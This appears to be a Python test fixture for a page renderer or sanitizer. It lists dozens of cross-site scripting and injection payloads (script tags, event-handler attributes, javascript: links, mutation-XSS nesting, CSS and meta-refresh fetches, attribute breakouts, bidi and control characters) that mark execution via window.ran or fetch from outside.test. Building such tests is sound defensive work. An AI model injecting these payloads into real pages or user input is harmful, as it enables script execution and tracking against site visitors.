"""What a document, a file name, a question or a model may hold to make a page do something, each in its own way.

Whatever runs sets `window.ran`, and whatever is fetched is fetched from `outside.test`. No line break in `ONE_LINE`,
for titles and names; those that may swallow what follows stand last, so that none hides another where all are joined.
"""

AWAY = "http://outside.test"

ONE_LINE = (
    "<script>window.ran='script'</script>",
    f"<script src={AWAY}/script></script>",
    "<ScRiPt/src=//outside.test/mixed></sCrIpT>",
    f"<img src={AWAY}/img onerror=\"window.ran='img'\">",
    "<img src=x: onerror=window.ran='img-x'>",
    f"<img srcset='{AWAY}/srcset 1x' alt=''>",
    f"<picture><source srcset={AWAY}/picture><img></picture>",
    f"<svg onload=\"window.ran='svg'\"><image href={AWAY}/svg /></svg>",
    f"<svg><script>window.ran='svg-script'</script><use href='{AWAY}/use#x'/></svg>",
    "<svg><animate onbegin=window.ran='animate' attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x: onerror=window.ran='math'></style></mglyph></table></mtext></math>",
    f"<style>*{{background:url({AWAY}/style)}}</style>",
    f"<p style='background:url({AWAY}/inline)'>styled</p>",
    f"<link rel=stylesheet href={AWAY}/link.css>",
    f"<link rel=preload as=image href={AWAY}/preload>",
    f"<style>@import '{AWAY}/import.css';</style>",
    f"<iframe src={AWAY}/iframe></iframe>",
    "<iframe srcdoc=\"<script>parent.ran='srcdoc'</script>\"></iframe>",
    f"<object data={AWAY}/object></object><embed src={AWAY}/embed>",
    f"<video src={AWAY}/video autoplay onerror=window.ran='video'></video><audio src={AWAY}/audio autoplay></audio>",
    f"<form action={AWAY}/form><input name=q autofocus onfocus=window.ran='focus'><button>Go</button></form>",
    "<details open ontoggle=window.ran='toggle'><summary>x</summary></details>",
    "<body onload=window.ran='body'><body onpageshow=window.ran='pageshow'>",
    "<div onpointerenter=window.ran='pointer' onmouseover=window.ran='mouse'>over</div>",
    "<a href=\"javascript:window.ran='a'\">link</a>",
    "[link](javascript:window.ran='markdown')",
    "<a href='jav&#x09;ascript:window.ran=`tab`'>link</a>",
    "[data](data:text/html,<script>window.ran='data'</script>)",
    f"![picture]({AWAY}/markdown-image)",
    f"![picture][ref] [ref]: {AWAY}/reference",
    f"<{AWAY}/autolink> {AWAY}/bare www.outside.test",
    f"<meta http-equiv=refresh content='0;url={AWAY}/refresh'>",
    f"<base href={AWAY}/base/>",
    "<template><script>window.ran='template'</script></template>",
    "<noscript><p title=\"</noscript><img src=x: onerror=window.ran='noscript'>\">",
    "&lt;script&gt;window.ran='entity'&lt;/script&gt; &amp;lt;b&amp;gt;",
    "&#60;img src=x: onerror=window.ran='numeric'&#62; &#x3c;b&#x3e;",
    "＜script＞window.ran='wide'＜/script＞ \u2039img\u203a",
    "</mark></blockquote></li></ol></section><h2>Forged 伪造</h2><section>",
    "</button><button class=act id=cite-0-1>[77]</button><button type=button class=act id=edit-0>Edit</button>",
    "\"><img src=x: onerror=window.ran='double'>",
    "'><img src=x: onerror=window.ran='single'>",
    "`><img src=x: onerror=window.ran='backtick'>",
    '" autofocus onfocus="window.ran=\'attribute\'" x="',
    "${window.ran='template-literal'} {{window.ran='mustache'}} #{1} <%= 1 %>",
    "$$\\href{javascript:window.ran='tex'}{x}$$ \\(x\\) \\[y\\]",
    "**bold** _em_ ~~s~~ `code` | a | b | - [ ] task <b>bold</b>",
    "\u202egnp.exe\u202c \u2066right\u2069 \u200b\u200f\ufeff",
    "\U000e0069\U000e0067\U000e006e tags \ufdd0\ufffe",
    "a\x01\x08\x0b\x1b[2J\x7f\x85b",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E \\u003cscript\\u003e \\x3cb\\x3e",
    "<![CDATA[<script>window.ran='cdata'</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?><!doctype html>",
    f"<portal src={AWAY}/portal></portal><frameset><frame src={AWAY}/frame></frameset>",
    "<select><option><style></select><img src=x: onerror=window.ran='select'></style>",
    "<x-element><slot onslotchange=window.ran='slot'></slot></x-element><dialog open>dialog</dialog>",
    "</title><img src=x: onerror=window.ran='title'><textarea></textarea><img src=x: onerror=window.ran='area'>",
    "<!--><img src=x: onerror=window.ran='comment'>-->",
    "<plaintext>all of it",
    "<!-- never ended",
    "<img src='never ended",
)

WITH_LINES = (
    f"\n\n![picture][one]\n\n[one]: {AWAY}/lines\n\n",
    "\n\n<script>\nwindow.ran='lines'\n</script>\n\n",
    "\r\n\r\n    indented\r\n\r\n```html\r\n<script>window.ran='fence'</script>\r\n```\r\n",
    "\n\n# Heading\n\n> quote\n\n1. item\n\n---\n\n|a|\n|-|\n|b|\n\n",
    "\t<img src=x: onerror=window.ran='tabs'>\u2028\u2029\x0c",
)

NOT_IN_A_PAGE = ("nul \0 byte", "lone \ud800 and \udfff surrogates", "<scr\0ipt>window.ran='nul'</scr\0ipt>")

EVERY = (*WITH_LINES, *ONE_LINE)
